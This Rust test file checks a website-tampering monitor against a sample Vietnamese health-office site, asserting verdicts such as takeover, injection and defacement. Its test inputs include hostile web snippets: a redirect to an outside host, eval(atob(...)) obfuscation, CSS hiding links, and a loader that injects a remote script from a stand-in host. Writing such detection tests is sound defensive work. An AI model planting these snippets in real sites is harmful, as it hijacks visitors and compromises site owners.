//! What is said of scripts, style sheets and pictures that a site gives with its pages.
#![expect(
    clippy::unwrap_used,
    reason = "a test that cannot be set up has failed"
)]

use std::fmt::Write as _;
use std::io::Cursor;

use image::{DynamicImage, ImageFormat, Rgb, RgbImage};
use jiff::Timestamp;
use pages::UseKind;
use watch::{Approver, Check, Depth, Means, Reason, SiteMemory, Verdict, check};

use crate::serving::{Site, web};

const PAGE: &str = "<!doctype html><html lang=vi><meta charset=utf-8><title>Sở Y tế tỉnh A</title><link rel=stylesheet href=/css/site.css>
<body><header class=dau><img src=/images/banner.png></header><nav><a href=/>Trang chủ</a></nav><main><h2>Tin mới</h2>
<p class=tin>Lịch tiêm chủng tháng 8</p><div class=doi-tac><a href=https://doitac.example>Đối tác của chúng tôi</a></div></main>
<div class=anh><img src=/images/a.png><img src=/images/b.png><img src=/images/c.png></div><script src=/js/site.js></script>";
const SCRIPT: &str = "document.querySelectorAll('.tab').forEach(function(tab){tab.onclick=function(){tab.classList.toggle('open')}});";

/// A picture of coloured stripes, another for each number.
fn stripes(number: usize) -> Vec<u8> {
    let colours = [[200, 40, 30], [30, 160, 60], [240, 210, 60], [40, 80, 200]];
    stored(|x, y| {
        let at =
            (x as usize * (number % 5 + 2) / 120 + y as usize * (number % 3 + 1) / 60 + number) % 4;
        Rgb(colours[at])
    })
}

fn dark() -> Vec<u8> {
    stored(|x, y| {
        let is_letter = y % 20 > 12 && (20..100).contains(&x) && x % 7 > 2;
        Rgb(if is_letter { [220, 0, 0] } else { [4, 4, 4] })
    })
}

/// A picture in colours of no other.
fn violet(width: u32, height: u32) -> Vec<u8> {
    let picture = RgbImage::from_fn(width, height, |x, y| {
        Rgb(if (x / 9 + y / 13) % 2 == 0 {
            [190, 60, 230]
        } else {
            [120, 240, 235]
        })
    });
    let mut bytes = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(picture)
        .write_to(&mut bytes, ImageFormat::Png)
        .unwrap();
    bytes.into_inner()
}

fn stored(colour: impl Fn(u32, u32) -> Rgb<u8>) -> Vec<u8> {
    let picture = DynamicImage::ImageRgb8(RgbImage::from_fn(120, 60, colour));
    let mut bytes = Cursor::new(Vec::new());
    picture.write_to(&mut bytes, ImageFormat::Png).unwrap();
    bytes.into_inner()
}

/// A site under watch, and the time that it is there.
struct Watched {
    site: Site,
    memory: SiteMemory,
    web: visit::Web,
    minutes: i64,
}

impl Watched {
    async fn begin() -> Self {
        let site = Site::open();
        site.put("/", "text/html; charset=utf-8", PAGE);
        site.put("/js/site.js", "text/javascript", SCRIPT);
        site.put(
            "/css/site.css",
            "text/css",
            "body{color:#222} .dau{background:#eee}",
        );
        for (number, path) in [
            "/images/banner.png",
            "/images/a.png",
            "/images/b.png",
            "/images/c.png",
        ]
        .into_iter()
        .enumerate()
        {
            site.put(path, "image/png", stripes(number));
        }
        let mut watched = Self {
            site,
            memory: SiteMemory::default(),
            web: web(),
            minutes: 0,
        };
        let first = watched.look(Depth::Whole).await;
        assert!(watched.site.asked().contains(&"/images/c.png".to_owned()));
        watched.approve(&first);
        watched
    }

    async fn look(&self, depth: Depth) -> Check {
        let means = Means::new(
            &self.web,
            Timestamp::from_second(1_780_000_000 + self.minutes * 60).unwrap(),
        );
        check(&means, &self.site.url("/"), &self.memory, None, depth).await
    }

    /// Looks after so many minutes, and learns.
    async fn after(&mut self, minutes: i64) -> Check {
        self.minutes += minutes;
        let check = self.look(Depth::Whole).await;
        self.memory.learn(&check);
        check
    }

    fn approve(&mut self, check: &Check) {
        let approver = Approver {
            by: "Nguyễn Văn A".to_owned(),
            ..Approver::default()
        };
        self.memory.approve(check, &approver);
    }

    /// Puts a file in the place of another, and returns what is said two hours later.
    async fn said_of(
        &mut self,
        path: &str,
        kind: &'static str,
        bytes: impl Into<Vec<u8>>,
    ) -> (Verdict, Vec<Reason>) {
        self.site.put(path, kind, bytes);
        let check = self.after(120).await;
        (check.judgement.verdict, check.judgement.reasons)
    }
}

#[tokio::test]
async fn a_site_is_asked_for_its_files_now_and_then_only() {
    let mut watched = Watched::begin().await;
    watched.site.asked();
    assert_eq!(watched.after(1).await.judgement.verdict, Verdict::Unchanged);
    assert_eq!(watched.site.asked(), ["/"]);
    watched.after(31).await;
    let mut asked = watched.site.asked();
    asked.sort();
    assert_eq!(asked, ["/", "/css/site.css", "/js/site.js"]);
    watched.after(31).await;
    assert_eq!(watched.site.asked().len(), 7);
}

#[tokio::test]
async fn a_page_with_hundreds_of_files_is_asked_for_a_few_and_all_get_their_turn() {
    let mut watched = Watched::begin().await;
    let mut page = PAGE.to_owned();
    for number in 0..300 {
        write!(
            page,
            "<img src=/p/{number}.png><script src=/s/{number}.js></script>"
        )
        .unwrap();
    }
    watched.site.put("/", "text/html; charset=utf-8", page);
    let first = watched.after(1).await;
    watched.approve(&first);
    let mut asked = std::collections::BTreeSet::new();
    for _ in 0..40 {
        watched.site.asked();
        watched.after(2).await;
        let now = watched.site.asked();
        assert!(now.len() <= 13, "{}", now.len());
        asked.extend(now);
    }
    assert!(asked.len() > 400, "{}", asked.len());
}

#[tokio::test]
async fn a_script_that_now_leads_away_is_an_alarm_for_as_long_as_it_does() {
    let mut watched = Watched::begin().await;
    let spoilt = format!("{SCRIPT}\n;if(1){{window.location.href='https://khac.example.net/x'}}");
    let (verdict, reasons) = watched
        .said_of("/js/site.js", "text/javascript", spoilt)
        .await;
    assert_eq!(verdict, Verdict::Takeover);
    assert!(
        matches!(&reasons[0], Reason::LoadedScript { was_added_to: true, redirects: true, origins, .. } if origins == &["https://khac.example.net"]),
        "{reasons:?}"
    );
    // Looking again, even at once, does not make it go away; cleaning does.
    assert_eq!(watched.after(1).await.judgement.verdict, Verdict::Takeover);
    let (verdict, _) = watched
        .said_of("/js/site.js", "text/javascript", SCRIPT)
        .await;
    assert_eq!(verdict, Verdict::Unchanged);
}

#[tokio::test]
async fn a_script_that_was_rewritten_and_does_nothing_more_is_ordinary() {
    let mut watched = Watched::begin().await;
    let newer = "/*! menu 2.0 https://maker.example/licence */ var tabs = document.querySelectorAll('.tab'); for (const tab of tabs) tab.addEventListener('click', () => tab.classList.toggle('open'));";
    let (verdict, _) = watched
        .said_of("/js/site.js", "text/javascript", newer)
        .await;
    assert_eq!(verdict, Verdict::Ordinary);
    assert_eq!(
        watched.after(120).await.judgement.verdict,
        Verdict::Unchanged
    );
}

#[tokio::test]
async fn code_made_unreadable_behind_a_library_is_an_injection() {
    let mut watched = Watched::begin().await;
    let spoilt = format!("{SCRIPT};eval(atob('YWxlcnQoMSk='))");
    let (verdict, _) = watched
        .said_of("/js/site.js", "text/javascript", spoilt)
        .await;
    assert_eq!(verdict, Verdict::Injection);
}

#[tokio::test]
async fn a_new_script_among_the_uploads_is_looked_at_whatever_it_does() {
    let mut watched = Watched::begin().await;
    watched
        .site
        .put("/upload/x1.js", "text/javascript", "var a = 1;");
    let page = PAGE.replace("<script", "<script src=/upload/x1.js></script><script");
    let (verdict, reasons) = watched.said_of("/", "text/html; charset=utf-8", page).await;
    assert_eq!(verdict, Verdict::Injection);
    assert!(
        matches!(&reasons[0], Reason::Resource { use_kind: UseKind::Script, origin } if origin.ends_with("/upload/x1.js")),
        "{reasons:?}"
    );
}

#[tokio::test]
async fn a_dark_message_in_the_place_of_the_banner_is_a_defacement() {
    let mut watched = Watched::begin().await;
    let (verdict, reasons) = watched
        .said_of("/images/banner.png", "image/png", dark())
        .await;
    assert_eq!(verdict, Verdict::Defacement, "{reasons:?}");
    assert_eq!(
        watched.after(1).await.judgement.verdict,
        Verdict::Defacement
    );
}

#[tokio::test]
async fn another_picture_under_the_same_address_is_looked_at_by_a_person_once() {
    let mut watched = Watched::begin().await;
    let (verdict, _) = watched
        .said_of("/images/banner.png", "image/png", stripes(9))
        .await;
    assert_eq!(verdict, Verdict::Unexplained);
    let seen = watched.after(1).await;
    watched.approve(&seen);
    assert_eq!(
        watched.after(120).await.judgement.verdict,
        Verdict::Unchanged
    );
}

#[tokio::test]
async fn a_picture_that_is_corrected_within_days_is_a_question_and_later_a_defacement() {
    for (days, verdict) in [(1, Verdict::Unexplained), (4, Verdict::Defacement)] {
        let mut watched = Watched::begin().await;
        let page = |number: usize| {
            let path = format!("/images/banner.png?v={number}");
            (PAGE.replace("/images/banner.png", &path), path)
        };
        let (markup, path) = page(2);
        watched.site.put(&path, "image/png", stripes(9));
        let (found, reasons) = watched
            .said_of("/", "text/html; charset=utf-8", markup)
            .await;
        assert_eq!(found, Verdict::Ordinary, "{reasons:?}");
        watched.after(days * 24 * 60).await;
        let (found, reasons) = watched.said_of(&path, "image/png", violet(120, 60)).await;
        assert_eq!(found, verdict, "after {days} days: {reasons:?}");
    }
}

#[tokio::test]
async fn a_few_lines_that_decode_under_the_same_version_are_an_injection_and_under_another_a_question()
 {
    let decodes = "var menu=atob('bWVudQ==');document.querySelector('.tab').className=menu;";
    for (version, verdict) in [(1, Verdict::Injection), (2, Verdict::Unexplained)] {
        let mut watched = Watched::begin().await;
        let page =
            |version: usize| PAGE.replace("/js/site.js", &format!("/js/site.js?v={version}"));
        watched
            .site
            .put("/js/site.js?v=1", "text/javascript", SCRIPT);
        watched
            .said_of("/", "text/html; charset=utf-8", page(1))
            .await;
        let path = format!("/js/site.js?v={version}");
        watched
            .site
            .put("/", "text/html; charset=utf-8", page(version));
        let (found, reasons) = watched.said_of(&path, "text/javascript", decodes).await;
        assert_eq!(found, verdict, "{reasons:?}");
    }
}

#[tokio::test]
async fn a_picture_of_another_shape_and_other_colours_where_the_banner_stood_is_a_defacement() {
    for (picture, verdict) in [
        (violet(120, 60), Verdict::Unexplained),
        (violet(90, 120), Verdict::Defacement),
    ] {
        let mut watched = Watched::begin().await;
        let (found, reasons) = watched
            .said_of("/images/banner.png", "image/png", picture)
            .await;
        assert_eq!(found, verdict, "{reasons:?}");
    }
}

#[tokio::test]
async fn a_banner_with_another_version_in_its_address_is_ordinary_and_a_dark_one_is_not() {
    let mut watched = Watched::begin().await;
    let version = |number: usize| {
        let path = format!("/images/banner.png?v={number}");
        (PAGE.replace("/images/banner.png", &path), path)
    };
    let (page, path) = version(2);
    watched.site.put(&path, "image/png", stripes(9));
    let (verdict, reasons) = watched.said_of("/", "text/html; charset=utf-8", page).await;
    assert_eq!(verdict, Verdict::Ordinary, "{reasons:?}");
    let (page, path) = version(3);
    watched.site.put(&path, "image/png", dark());
    let (verdict, _) = watched.said_of("/", "text/html; charset=utf-8", page).await;
    assert_eq!(verdict, Verdict::Unexplained);
}

#[tokio::test]
async fn somebody_elses_picture_where_the_banner_always_stood_is_a_defacement() {
    let mut watched = Watched::begin().await;
    for _ in 0..6 {
        watched.after(1).await;
    }
    let page = PAGE.replace("/images/banner.png", "https://anh.khac.example.net/1.png");
    let (verdict, _) = watched.said_of("/", "text/html; charset=utf-8", page).await;
    assert_eq!(verdict, Verdict::Defacement);
    assert!(
        !watched
            .site
            .asked()
            .iter()
            .any(|path| path.contains("1.png"))
    );
}

#[tokio::test]
async fn a_picture_that_is_another_each_time_is_let_be() {
    let mut watched = Watched::begin().await;
    watched.site.vary(|number| stripes(number * 7 + 1));
    let page = PAGE.replace("/images/c.png", "/varies.png");
    let (verdict, _) = watched.said_of("/", "text/html; charset=utf-8", page).await;
    assert_eq!(verdict, Verdict::Ordinary);
    for _ in 0..4 {
        assert!(!watched.after(120).await.judgement.verdict.wants_person());
    }
}

#[tokio::test]
async fn a_style_sheet_that_hides_links_to_strangers_is_an_injection_of_what_it_hides() {
    let mut watched = Watched::begin().await;
    let style = "body{color:#222} .doi-tac{display:none}";
    let (verdict, reasons) = watched.said_of("/css/site.css", "text/css", style).await;
    assert_eq!(verdict, Verdict::Injection, "{reasons:?}");
    assert!(
        reasons
            .iter()
            .any(|reason| matches!(reason, Reason::LoadedStyle { .. }))
    );
}

#[tokio::test]
async fn what_a_long_style_sheet_hides_at_its_end_is_hidden() {
    let mut watched = Watched::begin().await;
    let long = format!("{}.doi-tac{{display:none}}", filler(900 * 1024));
    let (verdict, reasons) = watched.said_of("/css/site.css", "text/css", long).await;
    assert_eq!(verdict, Verdict::Injection, "{reasons:?}");
}

#[tokio::test]
async fn of_style_sheets_without_end_it_is_said_how_much_was_not_read() {
    let mut watched = Watched::begin().await;
    let site = &watched.site;
    site.put("/css/site.css", "text/css", filler(1_500 * 1024));
    site.put("/css/2.css", "text/css", filler(1_500 * 1024));
    let more = "<link rel=stylesheet href=/css/2.css></head>";
    let page = PAGE.replace("<body>", more);
    site.put("/", "text/html; charset=utf-8", page);
    let check = watched.after(120).await;
    let kept: usize = check.style_sheets.iter().map(String::len).sum();
    assert!(kept <= 1024 * 1024, "{kept}");
    assert!(
        check.style_bytes_cut >= 1_900 * 1024,
        "{}",
        check.style_bytes_cut
    );
}

/// Rules that hide nothing, of about so many bytes.
fn filler(bytes: usize) -> String {
    "/* the next rule hides nothing at all and is only long */\n".repeat(bytes / 58)
}

#[tokio::test]
async fn a_style_sheet_of_other_colours_is_ordinary() {
    let mut watched = Watched::begin().await;
    let (verdict, _) = watched
        .said_of("/css/site.css", "text/css", "body{color:#333}")
        .await;
    assert_eq!(verdict, Verdict::Ordinary);
    assert_eq!(
        watched.after(120).await.judgement.verdict,
        Verdict::Unchanged
    );
}

#[tokio::test]
async fn code_that_is_gone_is_said_and_a_small_picture_does_no_harm() {
    let mut watched = Watched::begin().await;
    watched.site.remove("/images/c.png");
    assert_eq!(
        watched.after(120).await.judgement.verdict,
        Verdict::Ordinary
    );
    watched.site.remove("/js/site.js");
    let check = watched.after(120).await;
    assert_eq!(check.judgement.verdict, Verdict::Unexplained);
    assert!(matches!(
        check.judgement.reasons[0],
        Reason::LoadedGone { status: 404, .. }
    ));
}

#[tokio::test]
async fn a_loader_in_the_midst_of_a_library_is_an_injection_and_the_next_version_is_none() {
    let mut watched = Watched::begin().await;
    let library = |version: usize| -> String {
        let function = |number: usize| {
            let name = number * 7_919 % 1_000;
            format!(
                "function f{name}(a){{var b=a*{number};document.createElement('script');return b+{name};}}\n"
            )
        };
        // The next version has another function in ten.
        (0..400)
            .map(|number| {
                function(if number % 10 == 3 {
                    number * version
                } else {
                    number
                })
            })
            .collect()
    };
    watched
        .site
        .put("/js/lib.js", "text/javascript", library(1));
    let page = PAGE.replace("<script", "<script src=/js/lib.js></script><script");
    watched.site.put("/", "text/html; charset=utf-8", page);
    let seen = watched.after(1).await;
    watched.approve(&seen);
    let (verdict, reasons) = watched
        .said_of("/js/lib.js", "text/javascript", library(2))
        .await;
    assert!(!verdict.is_alarm(), "{reasons:?}");
    let seen = watched.after(1).await;
    watched.approve(&seen);
    let mut spoilt = library(2);
    let half = spoilt[10_000..].find('\n').unwrap() + 10_001;
    spoilt.insert_str(half, "var s=document.createElement('script');s.src='https://khac.example.net/a.js';document.body.append(s);\n");
    let (verdict, reasons) = watched
        .said_of("/js/lib.js", "text/javascript", spoilt)
        .await;
    assert_eq!(verdict, Verdict::Injection, "{reasons:?}");
}
